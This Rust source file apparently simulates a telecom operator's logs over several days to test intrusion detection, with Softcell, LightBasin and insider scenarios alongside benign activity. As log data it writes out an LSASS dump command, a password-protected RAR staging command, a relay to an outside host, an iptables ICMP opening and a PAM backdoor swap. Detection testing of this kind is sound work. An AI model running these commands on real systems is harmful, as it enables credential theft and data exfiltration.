//! The operator's daily work and the attack scenarios, one day at a time.

use crate::{Day, ExfilFlow, Rng, START, SimConfig, Step, Target, Truth, subscriber, ts};

/// Attack scenarios.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    /// Web shell → credential dumping → lateral movement → new domain admin → targeted CDR,
    /// location and device reads → split archives → exfiltration in chunks through a relay.
    Softcell,
    /// A care agent looks up protected persons without a ticket.
    Insider,
    /// SSH into an outside-facing DNS server with a default account → PAM backdoor → GTP
    /// tunnel and ICMP channel → CDR and subscriber-profile reads with a shared account from
    /// that server → exfiltration over ICMP.
    Lightbasin,
    /// No attack (false-positive measurement).
    Benign,
}

impl Scenario {
    pub fn parse(s: &str) -> Option<Scenario> {
        match s.to_ascii_lowercase().as_str() {
            "softcell" => Some(Scenario::Softcell),
            "insider" => Some(Scenario::Insider),
            "lightbasin" => Some(Scenario::Lightbasin),
            "benign" => Some(Scenario::Benign),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Scenario::Softcell => "softcell",
            Scenario::Insider => "insider",
            Scenario::Lightbasin => "lightbasin",
            Scenario::Benign => "benign",
        }
    }
}

const DAY: i64 = 86_400;
const DOMAIN: &str = "corp.example";
const CARE: usize = 12;
const BILL_DB: &str = "10.30.0.10";
const BACKUP: &str = "10.30.0.50";
const JUMP: &str = "10.20.0.5";
const ADMIN_WS: &str = "10.1.5.10";
const OFFSITE: &str = "198.51.100.10";
const RELAY: &str = "203.0.113.66";
const DNS_EXT: &str = "10.40.0.53";
const HSS: &str = "10.40.0.20";
const LB_C2: &str = "198.51.100.77";

fn care_ip(k: usize) -> String {
    format!("10.1.0.{}", 20 + k)
}

fn json_str(s: &str) -> String {
    serde_json::Value::String(s.to_owned()).to_string()
}

/// The simulated operator's state across days.
pub(crate) struct World {
    seed: u64,
    subscribers: u64,
    days: u32,
    scenarios: Vec<Scenario>,
    rng: Rng,
    record: u64,
    uid: u64,
    /// Subscriber indexes of the protected persons (watchlist) and the attack's targets.
    protected: Vec<(u64, &'static str)>,
    targets: Vec<u64>,
    attack_day: u32,
}

impl World {
    pub fn new(c: &SimConfig) -> World {
        let mut rng = Rng::new(c.seed);
        let n = c.subscribers.max(100);
        let labels = [
            "Minister of Defence",
            "Chief of the General Staff",
            "Investigating judge",
            "Opposition leader",
            "Intelligence liaison",
        ];
        let protected: Vec<(u64, &'static str)> =
            labels.iter().map(|l| (rng.below(n), *l)).collect();
        let count = 15 + rng.below(16);
        let mut targets = Vec::new();
        while (targets.len() as u64) < count {
            let t = rng.below(n);
            if !targets.contains(&t) && !protected.iter().any(|(p, _)| *p == t) {
                targets.push(t);
            }
        }
        World {
            seed: c.seed,
            subscribers: n,
            days: c.days.max(1),
            scenarios: c.scenarios.clone(),
            rng,
            record: 1000,
            uid: 0,
            protected,
            targets,
            attack_day: (c.days / 3).max(1),
        }
    }

    /// Protected persons for the watchlist: (MSISDN, label).
    pub fn protected(&self) -> Vec<(String, &'static str)> {
        self.protected
            .iter()
            .map(|(i, l)| (subscriber(self.seed, *i).msisdn, *l))
            .collect()
    }

    fn has(&self, s: Scenario) -> bool {
        self.scenarios.contains(&s)
    }

    fn sub(&self, i: u64) -> crate::Subscriber {
        subscriber(self.seed, i)
    }

    /// Subscriber `i` as a target of `s` in the ground truth.
    fn target(&self, s: Scenario, i: u64) -> Target {
        let x = self.sub(i);
        Target {
            scenario: s.name().into(),
            msisdn: x.msisdn,
            imsi: x.imsi,
            imei: x.imei,
        }
    }

    // --- Writers -----------------------------------------------------------------------------

    #[allow(clippy::too_many_arguments)]
    fn windows(
        &mut self,
        day: &mut Day,
        t: i64,
        host: &str,
        channel: &str,
        provider: &str,
        eid: u32,
        data: &[(&str, &str)],
    ) {
        self.record += 1;
        let ed: Vec<String> = data
            .iter()
            .map(|(k, v)| format!("{}:{}", json_str(k), json_str(v)))
            .collect();
        let line = format!(
            r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":{}}}}},"EventID":{eid},"TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},"EventRecordID":{},"Channel":{},"Computer":"{host}.{DOMAIN}"}},"EventData":{{{}}}}}}}"##,
            json_str(provider),
            ts(t, 0),
            self.record,
            json_str(channel),
            ed.join(",")
        );
        day.windows.push((t, self.record as u32, line));
    }

    /// PsExec's service on the billing server (System 7045), from `image`.
    fn psexec_service(&mut self, day: &mut Day, t: i64, image: &str) {
        self.windows(
            day,
            t,
            "bill-db-01",
            "System",
            "Service Control Manager",
            7045,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", image),
                ("ServiceType", "user mode service"),
                ("StartType", "demand start"),
                ("AccountName", "LocalSystem"),
            ],
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        day: &mut Day,
        t: i64,
        host: &str,
        user: &str,
        image: &str,
        cmd: &str,
        parent: &str,
    ) {
        self.windows(
            day,
            t,
            host,
            "Microsoft-Windows-Sysmon/Operational",
            "Microsoft-Windows-Sysmon",
            1,
            &[
                ("Image", image),
                ("CommandLine", cmd),
                ("ParentImage", parent),
                ("User", user),
            ],
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn pg(
        &mut self,
        day: &mut Day,
        t: i64,
        user: &str,
        app: &str,
        client: &str,
        sql: &str,
        param: &str,
        rows: Option<u64>,
    ) {
        self.record += 1;
        let body = format!("\"{}\"", sql.replace('"', "\"\""));
        let rows = rows.map(|r| format!(",{r}")).unwrap_or_default();
        let param = if param.is_empty() {
            "<not logged>"
        } else {
            param
        };
        let line = format!(
            "{} UTC [{}]: [1-1] user={user},db=billing,app={app},client={client} LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,{body},{param}{rows}",
            ts(t, 0).replace('T', " ").trim_end_matches('Z'),
            4000 + self.record % 5000
        );
        day.pg.push((t, self.record as u32, line));
    }

    fn mysql(&mut self, day: &mut Day, t: i64, user: &str, ip: &str, query: &str) {
        self.record += 1;
        let v = serde_json::json!({
            "timestamp": ts(t, 0).replace('T', " ").trim_end_matches('Z').get(..19).unwrap_or(""),
            "id": self.record, "class": "general", "event": "status",
            "connection_id": self.record % 997,
            "account": {"user": user, "host": ip},
            "login": {"user": user, "os": "", "ip": ip, "proxy": ""},
            "general_data": {"command": "Query", "sql_command": "select", "query": query, "status": 0}
        });
        day.mysql.push((t, self.record as u32, v.to_string()));
    }

    #[allow(clippy::too_many_arguments)]
    fn conn(
        &mut self,
        day: &mut Day,
        t: i64,
        src: &str,
        dst: &str,
        port: u16,
        service: &str,
        dur: f64,
        out: u64,
    ) {
        self.flow(day, t, (src, dst, port, "tcp"), service, dur, out);
    }

    /// One Zeek conn.log row: (source, destination, destination port, protocol).
    fn flow(
        &mut self,
        day: &mut Day,
        t: i64,
        (src, dst, port, proto): (&str, &str, u16, &str),
        service: &str,
        dur: f64,
        out: u64,
    ) {
        self.uid += 1;
        let service = if service.is_empty() { "-" } else { service };
        let line = format!(
            "{t}.{:06}\tS{:x}\t{src}\t{}\t{dst}\t{port}\t{proto}\t{service}\t{dur:.3}\t{out}\t{}\tSF\t{}\t{}",
            self.uid % 1_000_000,
            self.uid,
            40000 + self.uid % 20000,
            out / 50 + 200,
            out / 1400 + 1,
            out / 20000 + 1
        );
        day.conn.push((t, self.uid as u32, line));
    }

    fn syslog(&mut self, day: &mut Day, t: i64, app: &str, pid: u32, msg: &str) {
        self.record += 1;
        let line = format!("<38>1 {} dns-ext-01 {app} {pid} - - {msg}", ts(t, 0));
        day.syslog.push((t, self.record as u32, line));
    }

    /// One auditd event: a SYSCALL record and its other records, ending with EOE.
    fn audit(&mut self, day: &mut Day, t: i64, records: &[String]) {
        self.record += 1;
        let id = format!("audit({t}.000:{})", self.record);
        let mut text = Vec::new();
        for r in records {
            let (ty, rest) = r.split_once(' ').unwrap_or((r, ""));
            text.push(format!("type={ty} msg={id}: {rest}"));
        }
        text.push(format!("type=EOE msg={id}: "));
        day.audit.push((t, self.record as u32, text.join("\n")));
    }

    // --- A day -------------------------------------------------------------------------------

    pub fn day(&mut self, d: u32, day: &mut Day, truth: &mut Truth) {
        let base = START + d as i64 * DAY;
        self.benign(d, base, day);
        if self.has(Scenario::Softcell) {
            self.softcell(d, base, day, truth);
        }
        if self.has(Scenario::Insider) {
            self.insider(d, base, day, truth);
        }
        if self.has(Scenario::Lightbasin) {
            self.lightbasin(d, base, day, truth);
        }
    }

    fn benign(&mut self, d: u32, base: i64, day: &mut Day) {
        let n = self.subscribers;
        // Customer care: CRM lookups, then the customer's recent calls, in office hours.
        for k in 0..CARE {
            let user = format!("care{:02}", k + 1);
            let ip = care_ip(k);
            for _ in 0..25 {
                let t = base + self.rng.range(8 * 3600, 17 * 3600);
                let mut i = self.rng.below(n);
                // Protected persons are looked up only in the insider scenario.
                while self.protected.iter().any(|(p, _)| *p == i) {
                    i = self.rng.below(n);
                }
                let s = self.sub(i);
                self.mysql(
                    day,
                    t,
                    &user,
                    &ip,
                    &format!("SELECT * FROM customer WHERE msisdn = '{}'", s.msisdn),
                );
                if self.rng.below(3) == 0 {
                    self.pg(day, t + 40, &user, "crm-web", &ip, "SELECT call_start, called_number, duration FROM cdr WHERE calling_number = $1 ORDER BY call_start DESC LIMIT 20", &s.msisdn, Some(20));
                }
            }
        }
        // Billing: the nightly rating run reads the whole previous day.
        let date = ts(base - DAY, 0);
        let rows = 4_000_000 + self.rng.below(200_000);
        self.pg(
            day,
            base + 2 * 3600,
            "rating",
            "rater",
            "10.30.0.30",
            "SELECT * FROM cdr WHERE call_start >= $1 AND call_start < $1::date + 1",
            date.get(..10).unwrap_or(""),
            Some(rows),
        );
        // Reporting: figures, not records.
        self.pg(
            day,
            base + 6 * 3600,
            "report",
            "reporter",
            "10.30.0.31",
            "SELECT count(*), sum(duration) FROM cdr WHERE call_start::date = current_date - 1",
            "",
            Some(1),
        );
        // Nightly backup: pg_dump copies the tables to standard output, then offsite.
        for (k, table) in ["public.cdr", "public.cell_location", "public.device"]
            .iter()
            .enumerate()
        {
            self.pg(
                day,
                base + 3600 + k as i64 * 300,
                "backup",
                "pg_dump",
                BACKUP,
                &format!("COPY {table} TO STDOUT"),
                "",
                None,
            );
        }
        let size = (40u64 << 30) + self.rng.below(1 << 28);
        self.conn(
            day,
            base + 3600 + 1200,
            BACKUP,
            OFFSITE,
            443,
            "ssl",
            2400.0,
            size,
        );
        // DBA maintenance from the admin workstation.
        if d.is_multiple_of(2) {
            self.pg(
                day,
                base + 10 * 3600 + 600,
                "dba_jane",
                "psql",
                ADMIN_WS,
                "VACUUM ANALYZE cdr",
                "",
                None,
            );
        }
        // Workstations browsing; the billing server fetching updates.
        for w in 0..(CARE + 6) {
            for _ in 0..20 {
                let t = base + self.rng.range(8 * 3600, 18 * 3600);
                let dst = format!("93.184.{}.{}", self.rng.below(4), 1 + self.rng.below(60));
                let out = 5_000 + self.rng.below(300_000);
                self.conn(
                    day,
                    t,
                    &format!("10.1.0.{}", 20 + w),
                    &dst,
                    443,
                    "ssl",
                    2.0,
                    out,
                );
            }
        }
        let upd = 3_000_000 + self.rng.below(2_000_000);
        self.conn(
            day,
            base + 5 * 3600,
            BILL_DB,
            "203.0.113.1",
            443,
            "ssl",
            4.0,
            upd,
        );
        // Admins: PsExec to a server once a week, ipconfig now and then.
        if d % 7 == 3 {
            let t = base + 14 * 3600;
            self.psexec_service(day, t, "%SystemRoot%\\PSEXESVC.exe");
        }
        let t = base + 9 * 3600 + self.rng.range(0, 3600);
        self.process(
            day,
            t,
            "adm-01",
            "CORP\\adm_paul",
            "C:\\Windows\\System32\\ipconfig.exe",
            "ipconfig /all",
            "C:\\Windows\\System32\\cmd.exe",
        );
        // The outside-facing DNS server: the ops team logs in with keys and updates packages.
        let t = base + 9 * 3600 + self.rng.range(0, 1800);
        let pid = 1200 + d;
        self.syslog(
            day,
            t,
            "sshd",
            pid,
            "Accepted publickey for ops from 10.1.5.10 port 51522 ssh2: ED25519 SHA256:opsKey",
        );
        self.syslog(
            day,
            t + 60,
            "sudo",
            pid + 1,
            "ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/apt-get -y upgrade",
        );
        self.audit(day, t + 70, &[
            format!("SYSCALL arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid={} pid={} auid=1001 uid=0 gid=0 euid=0 comm=\"apt-get\" exe=\"/usr/bin/apt-get\" SYSCALL=execve AUID=\"ops\" UID=\"root\"", pid + 1, pid + 2),
            "EXECVE argc=3 a0=\"apt-get\" a1=\"-y\" a2=\"upgrade\"".to_owned(),
            "CWD cwd=\"/home/ops\"".to_owned(),
        ]);
        // The HSS synchronises subscriber profiles with the billing database every night.
        self.pg(
            day,
            base + 4 * 3600,
            "hlr_sync",
            "hss-sync",
            HSS,
            "SELECT count(*) FROM subscriber WHERE updated_at > now() - interval '1 day'",
            "",
            Some(1),
        );
        // Recursive DNS from the DNS server, ordinary sizes.
        for _ in 0..6 {
            let t = base + self.rng.range(0, DAY - 1);
            let out = 200 + self.rng.below(400);
            self.flow(day, t, (DNS_EXT, "192.0.2.53", 53, "udp"), "dns", 0.05, out);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn step(
        &self,
        truth: &mut Truth,
        s: Scenario,
        step: &str,
        t: i64,
        host: &str,
        account: &str,
        technique: &str,
    ) {
        truth.steps.push(Step {
            scenario: s.name().into(),
            step: step.into(),
            time: ts(t, 0),
            host: host.into(),
            account: account.into(),
            technique: technique.into(),
        });
    }

    fn softcell(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        let sc = Scenario::Softcell;
        let acct = format!("svc_bkp{}", 2 + self.seed % 7);
        if d == a {
            let t = base + 3600 + 14 * 60;
            self.process(
                day,
                t,
                "web-portal-01",
                "IIS APPPOOL\\portal",
                "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c whoami",
                "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            );
            self.step(
                truth,
                sc,
                "web shell runs commands",
                t,
                "web-portal-01",
                "IIS APPPOOL\\portal",
                "T1505.003",
            );
            let t2 = t + 300;
            self.process(
                day,
                t2,
                "web-portal-01",
                "IIS APPPOOL\\portal",
                "C:\\Windows\\System32\\net.exe",
                "net group \"domain admins\" /domain",
                "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            );
            self.step(
                truth,
                sc,
                "domain reconnaissance",
                t2,
                "web-portal-01",
                "IIS APPPOOL\\portal",
                "T1087.002",
            );
            let t3 = base + 2 * 3600 + 40 * 60;
            self.process(
                day,
                t3,
                "web-portal-01",
                "CORP\\adm_paul",
                "C:\\Windows\\Temp\\procdump64.exe",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(
                truth,
                sc,
                "LSASS memory dumped",
                t3,
                "web-portal-01",
                "CORP\\adm_paul",
                "T1003.001",
            );
        }
        if d == a + 1 {
            let t = base + 22 * 3600 + 300;
            self.psexec_service(day, t, "C:\\Users\\Public\\PSEXESVC.exe");
            self.step(
                truth,
                sc,
                "lateral movement with PsExec",
                t,
                "bill-db-01",
                "CORP\\adm_paul",
                "T1569.002",
            );
            let t2 = t + 1500;
            self.windows(
                day,
                t2,
                "dc-01",
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4720,
                &[
                    ("TargetUserName", &acct),
                    ("TargetDomainName", "CORP"),
                    ("SubjectUserName", "adm_paul"),
                ],
            );
            self.windows(
                day,
                t2 + 20,
                "dc-01",
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4728,
                &[
                    ("TargetUserName", "Domain Admins"),
                    (
                        "MemberName",
                        &format!("CN={acct},CN=Users,DC=corp,DC=example"),
                    ),
                    ("SubjectUserName", "adm_paul"),
                ],
            );
            self.step(
                truth,
                sc,
                "new domain admin account",
                t2,
                "dc-01",
                &acct,
                "T1136.002",
            );
            // With the DBA's stolen password, a database role for the new account.
            let t3 = t2 + 600;
            self.pg(
                day,
                t3,
                "dba_jane",
                "psql",
                JUMP,
                &format!("CREATE ROLE {acct} WITH LOGIN PASSWORD 'Summer2026!'"),
                "",
                None,
            );
            self.pg(
                day,
                t3 + 30,
                "dba_jane",
                "psql",
                JUMP,
                &format!("GRANT SELECT ON cdr, cell_location, device TO {acct}"),
                "",
                None,
            );
            self.step(
                truth,
                sc,
                "database role for the new account",
                t3,
                "bill-db-01",
                "dba_jane",
                "T1136.001",
            );
        }
        if (a + 2..=a + 4).contains(&d) && d < self.days {
            // Targeted reads: each night a third of the targets, and all of them on the last.
            let targets = self.targets.clone();
            let mut t = base + 2 * 3600 + self.rng.range(0, 1800);
            let first = t;
            for (k, &i) in targets.iter().enumerate() {
                if d != a + 4 && k % 3 != (d - a - 2) as usize {
                    continue;
                }
                let s = self.sub(i);
                t += self.rng.range(20, 90);
                let (r1, r2) = (200 + self.rng.below(800), 50 + self.rng.below(300));
                self.pg(
                    day,
                    t,
                    &acct,
                    "psql",
                    JUMP,
                    &format!(
                        "SELECT * FROM cdr WHERE calling_number = '{m}' OR called_number = '{m}'",
                        m = s.msisdn
                    ),
                    "",
                    Some(r1),
                );
                self.pg(day, t + 10, &acct, "psql", JUMP, &format!("SELECT l.imsi, l.cell_id, l.lac, l.seen_at FROM cell_location l JOIN subscriber s ON s.imsi = l.imsi WHERE s.msisdn = '{}'", s.msisdn), "", Some(r2));
                self.pg(day, t + 20, &acct, "psql", JUMP, &format!("SELECT d.* FROM device d JOIN subscriber s ON s.imsi = d.imsi WHERE s.msisdn = '{}'", s.msisdn), "", Some(1));
            }
            self.step(
                truth,
                sc,
                "targeted CDR, location and device reads",
                first,
                "bill-db-01",
                &acct,
                "T1213",
            );
        }
        if d == a + 4 && d < self.days {
            let t = base + 3 * 3600 + 1800;
            self.process(
                day,
                t,
                "jump-01",
                &format!("CORP\\{acct}"),
                "C:\\Program Files\\WinRAR\\rar.exe",
                "rar.exe a -v500m -hpP@ssw0rd C:\\$Recycle.Bin\\s.rar C:\\Users\\Public\\q",
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(
                truth,
                sc,
                "staging in split encrypted archives",
                t,
                "jump-01",
                &acct,
                "T1560.001",
            );
            let t2 = t + 1800;
            self.process(
                day,
                t2,
                "jump-01",
                &format!("CORP\\{acct}"),
                "C:\\Users\\Public\\svchost.exe",
                "svchost.exe -tran 443 203.0.113.66 443",
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(truth, sc, "connection relay", t2, "jump-01", &acct, "T1090");
            let chunks = 6 + self.rng.below(5) as i64;
            for k in 0..chunks {
                let tk = t2 + 300 + k * 700;
                let bytes = (500u64 << 20) + self.rng.below(4 << 20);
                self.conn(day, tk, JUMP, RELAY, 443, "ssl", 600.0, bytes);
                truth.exfiltration.push(ExfilFlow {
                    scenario: sc.name().into(),
                    src_ip: JUMP.into(),
                    dst_ip: RELAY.into(),
                    dst_port: 443,
                    bytes,
                    start: ts(tk, 0),
                });
            }
            self.step(
                truth,
                sc,
                "exfiltration in chunks",
                t2 + 300,
                "jump-01",
                &acct,
                "T1030",
            );
            for &i in &self.targets {
                truth.targets.push(self.target(sc, i));
            }
        }
    }

    fn lightbasin(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        let sc = Scenario::Lightbasin;
        // Targets of this scenario: the other half of the list, so both can run together.
        let targets: Vec<u64> = self.targets.iter().rev().take(12).copied().collect();
        if d == a {
            let t = base + 3600 + 120;
            self.syslog(
                day,
                t,
                "sshd",
                2211,
                &format!("Accepted password for root from {LB_C2} port 50123 ssh2"),
            );
            self.step(
                truth,
                sc,
                "SSH with a default account",
                t,
                "dns-ext-01",
                "root",
                "T1078.001",
            );
            let t2 = t + 600;
            self.audit(day, t2, &[
                "SYSCALL arch=c000003e syscall=82 success=yes exit=0 a0=7ffd a1=7ffe a2=0 a3=0 items=4 ppid=2211 pid=2290 auid=0 uid=0 gid=0 euid=0 comm=\"mv\" exe=\"/usr/bin/mv\" SYSCALL=rename AUID=\"root\" UID=\"root\"".to_owned(),
                "PATH item=2 name=\"/lib/x86_64-linux-gnu/security/pam_unix.so\" inode=1311 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=DELETE".to_owned(),
                "PATH item=3 name=\"/lib/x86_64-linux-gnu/security/pam_unix.so\" inode=1422 dev=08:01 mode=0100644 ouid=0 ogid=0 nametype=CREATE".to_owned(),
            ]);
            self.step(
                truth,
                sc,
                "PAM backdoor installed",
                t2,
                "dns-ext-01",
                "root",
                "T1556.003",
            );
            let t3 = t2 + 900;
            self.syslog(day, t3, "sudo", 2300, "root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/iptables -I INPUT -p icmp -j ACCEPT");
            self.audit(day, t3 + 60, &[
                "SYSCALL arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=2211 pid=2310 auid=0 uid=0 gid=0 euid=0 comm=\"gtp-tunnel\" exe=\"/usr/local/bin/gtp-tunnel\" SYSCALL=execve AUID=\"root\" UID=\"root\"".to_owned(),
                "EXECVE argc=5 a0=\"gtp-tunnel\" a1=\"add\" a2=\"gtp0\" a3=\"v1\" a4=\"200\"".to_owned(),
                "CWD cwd=\"/root\"".to_owned(),
            ]);
            self.step(
                truth,
                sc,
                "GTP tunnel set up",
                t3 + 60,
                "dns-ext-01",
                "root",
                "T1572",
            );
            self.audit(day, t3 + 120, &[
                "SYSCALL arch=c000003e syscall=41 success=yes exit=3 a0=2 a1=3 a2=1 a3=0 items=0 ppid=1 pid=2320 auid=0 uid=0 gid=0 euid=0 comm=\"kworkerd\" exe=\"/dev/shm/.k/kworkerd\" SYSCALL=socket AUID=\"root\" UID=\"root\"".to_owned(),
            ]);
            self.step(
                truth,
                sc,
                "ICMP listener",
                t3 + 120,
                "dns-ext-01",
                "root",
                "T1095",
            );
            for k in 0..4 {
                let out = (2 << 20) + self.rng.below(1 << 20);
                self.flow(
                    day,
                    t3 + 300 + k * 600,
                    (DNS_EXT, "203.0.113.200", 2152, "udp"),
                    "",
                    300.0,
                    out,
                );
            }
        }
        if (a + 1..=a + 3).contains(&d) && d < self.days {
            // A shared account used from the DNS server: CDRs and profiles of the targets.
            let mut t = base + 3 * 3600 + self.rng.range(0, 600);
            let first = t;
            for &i in &targets {
                let s = self.sub(i);
                t += self.rng.range(10, 40);
                let rows = 100 + self.rng.below(500);
                self.pg(
                    day,
                    t,
                    "hlr_sync",
                    "psql",
                    DNS_EXT,
                    &format!("SELECT * FROM cdr WHERE calling_number = '{}'", s.msisdn),
                    "",
                    Some(rows),
                );
                self.pg(
                    day,
                    t + 5,
                    "hlr_sync",
                    "psql",
                    DNS_EXT,
                    &format!("SELECT * FROM subscriber WHERE msisdn = '{}'", s.msisdn),
                    "",
                    Some(1),
                );
            }
            self.step(
                truth,
                sc,
                "CDR and subscriber-profile reads",
                first,
                "bill-db-01",
                "hlr_sync",
                "T1213",
            );
            // Out over ICMP to the operator's own server outside.
            for k in 0..3 {
                let tk = t + 600 + k * 900;
                let bytes = (40u64 << 20) + self.rng.below(8 << 20);
                self.flow(day, tk, (DNS_EXT, LB_C2, 0, "icmp"), "", 800.0, bytes);
                truth.exfiltration.push(ExfilFlow {
                    scenario: sc.name().into(),
                    src_ip: DNS_EXT.into(),
                    dst_ip: LB_C2.into(),
                    dst_port: 0,
                    bytes,
                    start: ts(tk, 0),
                });
            }
            self.step(
                truth,
                sc,
                "exfiltration over ICMP",
                t + 600,
                "dns-ext-01",
                "root",
                "T1048.003",
            );
        }
        if d == a + 3 || (d + 1 == self.days && d < a + 3) {
            for &i in &targets {
                let t = self.target(sc, i);
                if !truth.targets.iter().any(|x| x.msisdn == t.msisdn) {
                    truth.targets.push(t);
                }
            }
        }
    }

    fn insider(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        if d != a && d != a + 2 {
            return;
        }
        let k = 6;
        let user = format!("care{:02}", k + 1);
        let ip = care_ip(k);
        let people: Vec<u64> = self.protected.iter().take(3).map(|(i, _)| *i).collect();
        let mut first = 0;
        for (j, i) in people.iter().enumerate() {
            let s = self.sub(*i);
            let t = base + 15 * 3600 + j as i64 * 240;
            if first == 0 {
                first = t;
            }
            self.mysql(
                day,
                t,
                &user,
                &ip,
                &format!("SELECT * FROM customer WHERE msisdn = '{}'", s.msisdn),
            );
            self.pg(day, t + 60, &user, "crm-web", &ip, "SELECT call_start, called_number, duration FROM cdr WHERE calling_number = $1 ORDER BY call_start DESC LIMIT 20", &s.msisdn, Some(20));
            if d == a + 2 {
                truth.targets.push(self.target(Scenario::Insider, *i));
            }
        }
        self.step(
            truth,
            Scenario::Insider,
            "protected persons looked up without a ticket",
            first,
            "crm-db-01",
            &user,
            "T1213",
        );
    }
}
